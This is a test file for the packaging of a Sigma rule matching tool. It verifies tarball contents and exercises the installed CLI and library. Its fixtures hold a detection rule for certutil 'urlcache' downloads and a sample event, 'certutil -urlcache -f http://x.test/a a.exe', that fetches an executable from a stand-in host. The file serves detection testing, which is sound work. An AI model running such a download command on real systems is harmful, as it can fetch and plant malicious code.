/**
 * The npm tarball holds exactly what users need: the built JS and its declarations (each from a source file of
 * src/, no stale outputs), build/sigmatch.wasm, README, LICENSE and DESIGN.md (the README points into it); not the
 * test WASM build, not the .wat text, no source map that points at sources the tarball does not hold. Every `bin`,
 * `main`, `types` and `exports` target is in it. Then the packed tarball is installed into a temporary project
 * from the local npm cache (no network) and used as a user would: `sigmatch --version`, a scan, the library.
 *
 * Needs `npm run build` (npm test runs it first). `npm pack` runs with --ignore-scripts: its `prepare` would rebuild.
 */
import { spawnSync, type SpawnSyncReturns } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, join, posix } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { ROOT } from '../support/cli.js';

interface PackageJson {
  name: string;
  version: string;
  main: string;
  types: string;
  bin: Record<string, string>;
  exports: unknown;
  dependencies: Record<string, string>;
  optionalDependencies?: Record<string, string>;
}

interface PackResult {
  filename: string;
  integrity: string;
  files: { path: string; size: number }[];
}

const PKG = JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8')) as PackageJson;
/** Files shipped beside dist/ and the WASM module. */
const DOCUMENTS = ['README.md', 'LICENSE', 'DESIGN.md', 'package.json'];
const WASM = 'build/sigmatch.wasm';

/** The environment without npm's own variables: under `npm test`, npm_config_local_prefix and friends would point a
 * child npm at this repository instead of the directory it runs in. */
function npmEnv(): NodeJS.ProcessEnv {
  return Object.fromEntries(Object.entries(process.env).filter(([k]) => !/^npm_/i.test(k)));
}

function npm(args: string[], cwd: string): SpawnSyncReturns<string> {
  return spawnSync('npm', args, { cwd, env: npmEnv(), encoding: 'utf8', maxBuffer: 64 << 20 });
}

function pack(extra: string[]): PackResult {
  const r = npm(['pack', '--json', '--ignore-scripts', ...extra], ROOT);
  if (r.status !== 0) throw new Error(`npm pack failed (${r.status}): ${r.stderr}`);
  return (JSON.parse(r.stdout) as PackResult[])[0];
}

/** Every string target of package.json `exports`, through nested conditions. */
function exportTargets(node: unknown): string[] {
  if (typeof node === 'string') return [node];
  if (node && typeof node === 'object') return Object.values(node).flatMap(exportTargets);
  return [];
}

const inPackage = (target: string): string => posix.normalize(target).replace(/^\.\//, '');

function sourceFiles(dir: string, prefix = ''): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((d) =>
    d.isDirectory() ? sourceFiles(join(dir, d.name), `${prefix}${d.name}/`) : d.name.endsWith('.ts') ? [`${prefix}${d.name}`] : [],
  );
}

describe('npm pack --dry-run: the tarball contents', () => {
  let files: Set<string>;

  beforeAll(() => {
    for (const built of ['dist/cli/main.js', WASM]) {
      if (!existsSync(join(ROOT, built))) throw new Error(`${built} is missing: run \`npm run build\` (npm test does) before the package tests`);
    }
    const packed = pack(['--dry-run']);
    expect(packed.filename).toBe(`${PKG.name}-${PKG.version}.tgz`);
    files = new Set(packed.files.map((f) => f.path));
  });

  test('is named sigma-match (npm has an unrelated "sigmatch"), and the command is still sigmatch', () => {
    expect(PKG.name).toBe('sigma-match');
    expect(Object.keys(PKG.bin)).toEqual(['sigmatch']);
  });

  test('holds no test build of the VM, no .wat text and nothing outside dist/, the module and the documents', () => {
    const all = [...files];
    expect(all.filter((f) => /-test\.wasm$/.test(f))).toEqual([]);
    expect(all.filter((f) => f.endsWith('.wat'))).toEqual([]);
    const unexpected = all.filter((f) => !(DOCUMENTS.includes(f) || f === WASM || (f.startsWith('dist/') && /\.(js|d\.ts)$/.test(f))));
    expect(unexpected).toEqual([]);
  });

  test('holds README, LICENSE (MIT), package.json and the WASM module', () => {
    for (const f of [...DOCUMENTS, WASM]) expect(files, f).toContain(f);
    expect(readFileSync(join(ROOT, 'LICENSE'), 'utf8')).toMatch(/^MIT License\n\nCopyright \(c\) 2026 sigmatch contributors\n/);
  });

  test('no source map without its sources: every map and sourceMappingURL resolves inside the tarball', () => {
    for (const f of files) {
      if (f.endsWith('.map')) {
        const map = JSON.parse(readFileSync(join(ROOT, f), 'utf8')) as { sources: string[]; sourceRoot?: string };
        for (const s of map.sources) expect(files, `${f} -> ${s}`).toContain(posix.join(posix.dirname(f), map.sourceRoot ?? '', s));
      }
      if (f.endsWith('.js')) {
        const url = /\/\/# sourceMappingURL=(\S+)\s*$/.exec(readFileSync(join(ROOT, f), 'utf8'))?.[1];
        if (url && !url.startsWith('data:')) expect(files, `${f} -> ${url}`).toContain(posix.join(posix.dirname(f), url));
      }
    }
  });

  test('dist is exactly the build of src: a .js and a .d.ts per source file, no stale output of a removed one', () => {
    const expected = sourceFiles(join(ROOT, 'src')).flatMap((ts) => [`dist/${ts.replace(/\.ts$/, '.js')}`, `dist/${ts.replace(/\.ts$/, '.d.ts')}`]);
    expect([...files].filter((f) => f.startsWith('dist/')).sort()).toEqual(expected.sort());
  });

  test('bin, main, types and every exports target are in it; the bin is a node script', () => {
    const targets = [...Object.values(PKG.bin), PKG.main, PKG.types, ...exportTargets(PKG.exports)].map(inPackage);
    expect(targets.length).toBeGreaterThan(10);
    for (const t of targets) expect(files, t).toContain(t);
    for (const bin of Object.values(PKG.bin)) expect(readFileSync(join(ROOT, bin), 'utf8')).toMatch(/^#!\/usr\/bin\/env node\n/);
  });
});

/** A tiny rule and events for the installed CLI and library. */
const RULE = `title: Packed Package Test
id: 0b6c8f0e-6a43-4d8c-9a64-2f7e1c3d5a90
status: test
logsource: {product: windows, category: process_creation}
detection:
  selection:
    Image|endswith: '\\certutil.exe'
    CommandLine|contains: 'urlcache'
  condition: selection
level: high
`;
const EVENTS = [
  { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache -f http://x.test/a a.exe' },
  { Image: 'C:\\Windows\\System32\\notepad.exe', CommandLine: 'notepad' },
  { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -hashfile a.exe' },
];

/**
 * A lockfile for the temporary project that pins the tarball and the dependencies to the tarballs this repository's
 * lockfile resolved (by URL and integrity): `npm ci --offline` then needs only the cached tarballs, not registry
 * metadata, which `npm ci` in this repository never fetched.
 */
function projectLock(tarball: string, spec: string): object {
  const repoLock = JSON.parse(readFileSync(join(ROOT, 'package-lock.json'), 'utf8')) as { packages: Record<string, { version: string; resolved?: string }> };
  const registryUrl = (name: string, version: string): string => `https://registry.npmjs.org/${name}/-/${name.split('/').pop()}-${version}.tgz`;
  const packages: Record<string, object> = {
    '': { name: 'packed-test', dependencies: { [PKG.name]: spec } },
    [`node_modules/${PKG.name}`]: {
      version: PKG.version,
      resolved: spec,
      integrity: `sha512-${createHash('sha512').update(readFileSync(tarball)).digest('base64')}`,
      license: 'MIT',
      dependencies: PKG.dependencies,
      optionalDependencies: PKG.optionalDependencies,
      bin: PKG.bin,
    },
  };
  for (const name of [...Object.keys(PKG.dependencies), ...Object.keys(PKG.optionalDependencies ?? {})]) {
    const entry = repoLock.packages[`node_modules/${name}`];
    packages[`node_modules/${name}`] = { ...entry, resolved: entry.resolved ?? registryUrl(name, entry.version) };
  }
  return { name: 'packed-test', lockfileVersion: 3, requires: true, packages };
}

describe('the packed tarball, installed into a project', () => {
  let dir: string;
  let project: string;
  let notCached = '';
  const sigmatch = (args: string[]): SpawnSyncReturns<string> =>
    spawnSync(join(project, 'node_modules/.bin/sigmatch'), args, { cwd: project, env: { ...npmEnv(), NO_COLOR: '1' }, encoding: 'utf8' });

  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'sigmatch-pack-'));
    project = join(dir, 'project');
    mkdirSync(project);
    const tarball = join(dir, pack(['--pack-destination', dir]).filename);
    const relative = `../${basename(tarball)}`;
    writeFileSync(join(project, 'package.json'), JSON.stringify({ name: 'packed-test', private: true }));
    // As a user would; this needs the registry's metadata of the dependencies in the npm cache.
    let r = npm(['install', '--offline', '--no-audit', '--no-fund', relative], project);
    if (r.status !== 0 && /ENOTCACHED/.test(r.stderr)) {
      // The cache holds the dependencies' tarballs (npm ci of this repository fetched them) but not their metadata.
      const spec = `file:${relative}`;
      writeFileSync(join(project, 'package.json'), JSON.stringify({ name: 'packed-test', private: true, dependencies: { [PKG.name]: spec } }));
      writeFileSync(join(project, 'package-lock.json'), JSON.stringify(projectLock(tarball, spec)));
      r = npm(['ci', '--offline', '--no-audit', '--no-fund'], project);
    }
    if (r.status !== 0 && /ENOTCACHED/.test(r.stderr)) notCached = r.stderr.trim().split('\n').slice(0, 2).join(' ');
    else if (r.status !== 0) throw new Error(`installing the tarball failed (${r.status}):\n${r.stderr}`);
    writeFileSync(join(project, 'rule.yml'), RULE);
    writeFileSync(join(project, 'events.ndjson'), EVENTS.map((e) => JSON.stringify(e)).join('\n') + '\n');
  });

  afterAll(() => {
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  test('node_modules/.bin/sigmatch --version prints the installed package.json version, read at run time', (ctx) => {
    if (notCached) ctx.skip(`the dependencies are not in the local npm cache and the install is offline: ${notCached}`);
    const r = sigmatch(['--version']);
    expect(r.status, r.stderr).toBe(0);
    expect(r.stdout).toBe(`${PKG.version}\n`);
    const installed = join(project, 'node_modules', PKG.name, 'package.json');
    const manifest = JSON.parse(readFileSync(installed, 'utf8')) as PackageJson;
    writeFileSync(installed, JSON.stringify({ ...manifest, version: `${PKG.version}-installed` }));
    expect(sigmatch(['-V']).stdout).toBe(`${PKG.version}-installed\n`);
  });

  test('npx runs it by the package name (its one command) and by the command name, as the README says', (ctx) => {
    if (notCached) ctx.skip(`the dependencies are not in the local npm cache and the install is offline: ${notCached}`);
    for (const args of [['--offline', PKG.name, '--version'], ['--offline', '-p', PKG.name, 'sigmatch', '--version']]) {
      const r = spawnSync('npx', args, { cwd: project, env: npmEnv(), encoding: 'utf8' });
      expect(r.status, `npx ${args.join(' ')}: ${r.stderr}`).toBe(0);
      expect(r.stdout).toMatch(new RegExp(`^${PKG.version.replace(/\./g, '\\.')}(-installed)?\n$`));
    }
  });

  test('the installed CLI scans: one hit, as a JSON line', (ctx) => {
    if (notCached) ctx.skip(`the dependencies are not in the local npm cache and the install is offline: ${notCached}`);
    const r = sigmatch(['scan', '--rules', 'rule.yml', '--format', 'jsonl', 'events.ndjson']);
    expect(r.status, r.stderr).toBe(0);
    const hits = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as { id: string; event: number; level: string });
    expect(hits.map((h) => [h.id, h.event, h.level])).toEqual([['0b6c8f0e-6a43-4d8c-9a64-2f7e1c3d5a90', 0, 'high']]);
    expect(r.stderr).toContain('3 events, 1 hits from 1 rules');
  });

  test('the library imports by the package name, loads its own WASM module and matches; every export resolves', (ctx) => {
    if (notCached) ctx.skip(`the dependencies are not in the local npm cache and the install is offline: ${notCached}`);
    const subpaths = Object.keys(PKG.exports as object).map((k) => `${PKG.name}${k.slice(1)}`);
    const script = [
      `import { existsSync } from 'node:fs';`,
      `import { fileURLToPath } from 'node:url';`,
      `import { Matcher } from '${PKG.name}';`,
      `const m = await Matcher.create(${JSON.stringify(RULE)});`,
      `const hits = m.match(${JSON.stringify(EVENTS)});`,
      `const missing = ${JSON.stringify(subpaths)}.filter((s) => !existsSync(fileURLToPath(import.meta.resolve(s))));`,
      `console.log(JSON.stringify({ hits: hits.map((h) => [h.event, m.rules[h.rule].id]), missing, from: fileURLToPath(import.meta.resolve('${PKG.name}')) }));`,
    ].join('\n');
    const r = spawnSync(process.execPath, ['--input-type=module', '-e', script], { cwd: project, env: npmEnv(), encoding: 'utf8' });
    expect(r.status, r.stderr).toBe(0);
    const out = JSON.parse(r.stdout) as { hits: [number, string][]; missing: string[]; from: string };
    expect(out.hits).toEqual([[0, '0b6c8f0e-6a43-4d8c-9a64-2f7e1c3d5a90']]);
    expect(out.missing).toEqual([]);
    expect(out.from).toBe(join(project, 'node_modules', PKG.name, 'dist/index.js'));
  });
});
